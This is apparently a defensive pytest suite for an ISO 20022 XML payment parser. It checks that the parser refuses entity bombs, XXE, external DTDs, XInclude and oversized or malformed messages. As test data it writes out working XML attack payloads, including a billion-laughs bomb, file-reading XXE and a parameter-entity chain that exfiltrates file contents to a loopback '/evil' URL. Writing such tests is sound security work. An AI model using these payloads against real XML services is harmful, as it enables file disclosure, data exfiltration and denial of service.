"""The XML attack corpus: every case is refused with a clear error and code, reads no file and
touches no network. Where the DOCTYPE pre-check would hide the parser's own behaviour, the hardened
parser is also exercised directly (defence in depth: it must be safe on its own)."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

from sucre import bounds
from sucre.adapters.iso20022 import parse
from sucre.adapters.iso20022.parse import (
    PACS_008,
    PACS_009,
    InvalidMessage,
    MessageTooLarge,
    UnsafeMessage,
    parse_message,
)
from sucre.domain.errors import InvalidInput, SucreError
from tests.iso20022 import samples

SECRET = "s3cr3t-sucre-canary-7f1d"
NS = PACS_008.namespace


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A loopback TCP port that records any connection: libxml2 connects from C, so a Python
    socket monkeypatch would prove nothing; an accept queue does."""
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    yield server
    server.close()


def assert_no_connection(server: socket.socket) -> None:
    with pytest.raises(BlockingIOError):
        connection, _ = server.accept()
        connection.close()


def url(server: socket.socket) -> str:
    return f"http://127.0.0.1:{server.getsockname()[1]}/evil"


def rejected(data: bytes, kind: type[SucreError] = InvalidMessage) -> SucreError:
    with pytest.raises(kind) as caught:
        parse_message(data, PACS_008)
    error = caught.value
    assert error.reason_code == "FF01"
    assert SECRET not in str(error) and SECRET not in repr(error.args)
    return error


def hardened_tree(data: bytes) -> bytes:
    """What the hardened parser alone makes of ``data`` (no pre-check), serialised."""
    parser = parse.hardened_parser(events=False)
    try:
        parser.feed(data)
        root = parser.close()
    except etree.XMLSyntaxError as error:
        return str(error).encode()
    return etree.tostring(root)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">&lol9;</Document>"""


def quadratic_blowup() -> bytes:
    entity = "A" * 100_000
    body = "&a;" * 2_000
    return (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "{entity}">]>'
            f'<Document xmlns="{NS}">{body}</Document>').encode()


def test_billion_laughs_is_refused_and_never_expanded() -> None:
    error = rejected(BILLION_LAUGHS, UnsafeMessage)
    assert "DOCTYPE" in error.message
    assert b"lollollol" not in hardened_tree(BILLION_LAUGHS)


def test_quadratic_blowup_is_refused_and_never_expanded() -> None:
    data = quadratic_blowup()
    rejected(data, UnsafeMessage)
    assert len(hardened_tree(data)) < len(data)  # entity references stay references


def test_xxe_to_a_local_file_leaks_nothing(secret_file: Path) -> None:
    data = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>'
            f'<Document xmlns="{NS}"><FIToFICstmrCdtTrf>&xxe;</FIToFICstmrCdtTrf></Document>'
            ).encode()
    rejected(data, UnsafeMessage)
    assert SECRET.encode() not in hardened_tree(data)
    # Control: the payload is a real attack, an unhardened parser does read the file.
    unsafe = etree.XMLParser(resolve_entities=True, no_network=False, load_dtd=True)
    assert SECRET.encode() in etree.tostring(etree.fromstring(data, unsafe))


def test_xxe_to_the_network_opens_no_connection(listener: socket.socket) -> None:
    data = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "{url(listener)}">]>'
            f'<Document xmlns="{NS}">&xxe;</Document>').encode()
    rejected(data, UnsafeMessage)
    hardened_tree(data)
    assert_no_connection(listener)


def test_external_dtd_is_neither_loaded_nor_fetched(secret_file: Path, tmp_path: Path,
                                                   listener: socket.socket) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak SYSTEM "{secret_file.as_uri()}">')
    for system_id in (dtd.as_uri(), url(listener)):
        data = (f'<?xml version="1.0"?><!DOCTYPE Document SYSTEM "{system_id}">'
                f'<Document xmlns="{NS}">&leak;</Document>').encode()
        rejected(data, UnsafeMessage)
        assert SECRET.encode() not in hardened_tree(data)
    assert_no_connection(listener)


def test_parameter_entity_is_not_resolved(secret_file: Path, tmp_path: Path,
                                          listener: socket.socket) -> None:
    dtd = tmp_path / "param.dtd"
    dtd.write_text(f'<!ENTITY % file SYSTEM "{secret_file.as_uri()}">'
                   f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{url(listener)}?%file;\'>">'
                   '%eval;%exfil;')
    data = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % remote SYSTEM "{dtd.as_uri()}">'
            f'%remote;]><Document xmlns="{NS}"/>').encode()
    rejected(data, UnsafeMessage)
    assert SECRET.encode() not in hardened_tree(data)
    assert_no_connection(listener)


def test_doctype_hidden_by_utf16_is_still_refused(secret_file: Path) -> None:
    text = (f'<?xml version="1.0" encoding="UTF-16"?>'
            f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>'
            f'<Document xmlns="{NS}">&xxe;</Document>')
    rejected(text.encode("utf-16"), UnsafeMessage)


def test_a_utf16_message_is_refused() -> None:
    text = samples.pacs008(samples.order()).decode().replace("UTF-8", "UTF-16")
    error = rejected(text.encode("utf-16"))
    assert "UTF-8" in error.message


def test_schema_location_in_the_instance_is_not_followed(listener: socket.socket) -> None:
    data = samples.swap(samples.pacs008(samples.order()), f'<Document xmlns="{NS}">',
                        f'<Document xmlns="{NS}" xmlns:xsi='
                        f'"http://www.w3.org/2001/XMLSchema-instance" '
                        f'xsi:schemaLocation="{NS} {url(listener)}">')
    assert parse_message(data, PACS_008).definition is PACS_008
    assert_no_connection(listener)


def test_xinclude_is_not_processed(secret_file: Path) -> None:
    data = samples.swap(samples.pacs008(samples.order()), "<Nm>Cubaexport S.A.</Nm>",
                        '<Nm><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                        f'href="{secret_file.as_uri()}" parse="text"/></Nm>')
    rejected(data)


def nested(depth: int) -> bytes:
    return (f'<Document xmlns="{NS}">' + "<a>" * depth + "</a>" * depth
            + "</Document>").encode()


def test_deep_nesting_is_cut_off_while_parsing() -> None:
    error = rejected(nested(100), MessageTooLarge)  # over sucre's bound, under libxml2's 256
    assert str(bounds.iso_depth_max) in error.message
    error = rejected(nested(100_000), InvalidInput)  # libxml2 stops first (huge_tree=False)
    assert "depth" in error.message


def test_too_many_elements_are_cut_off_while_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "iso_elements_max", 1_000)
    data = (f'<Document xmlns="{NS}">' + "<a/>" * 1_001 + "</Document>").encode()
    rejected(data, MessageTooLarge)


def test_oversized_message_is_refused_before_parsing() -> None:
    data = b" " * (bounds.iso_message_bytes_max + 1)
    error = rejected(data, MessageTooLarge)
    assert issubclass(MessageTooLarge, InvalidInput)
    assert "bytes" in error.message


@pytest.mark.parametrize("root", [
    '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09">',
    '<Document xmlns="urn:example:not-iso">',
])
def test_wrong_namespace_is_refused(root: str) -> None:
    data = samples.swap(samples.pacs008(samples.order()), f'<Document xmlns="{NS}">', root)
    error = rejected(data)
    assert "namespace" in error.message and NS in error.message


def test_missing_namespace_is_refused() -> None:
    data = samples.swap(samples.pacs008(samples.order()), f'<Document xmlns="{NS}">',
                        "<Document>")
    error = rejected(data)
    assert "no namespace" in error.message


def test_wrong_root_and_wrong_kind_are_refused() -> None:
    data = samples.pacs008(samples.order())
    with pytest.raises(InvalidMessage, match="pacs.009"):
        parse_message(data, PACS_009)
    rejected(f'<Payment xmlns="{NS}"/>'.encode())


@pytest.mark.parametrize("data", [b"", b"<Document", b"not xml at all", b"<a></b>",
                                  b"<Document xmlns='x'>&undefined;</Document>"])
def test_malformed_xml_is_refused(data: bytes) -> None:
    error = rejected(data)
    assert "well-formed" in error.message


def test_a_valid_message_passes_every_check() -> None:
    parsed = parse_message(samples.pacs008(samples.order()), PACS_009, PACS_008)
    assert parsed.definition is PACS_008
    assert etree.QName(parsed.message).localname == "FIToFICstmrCdtTrf"
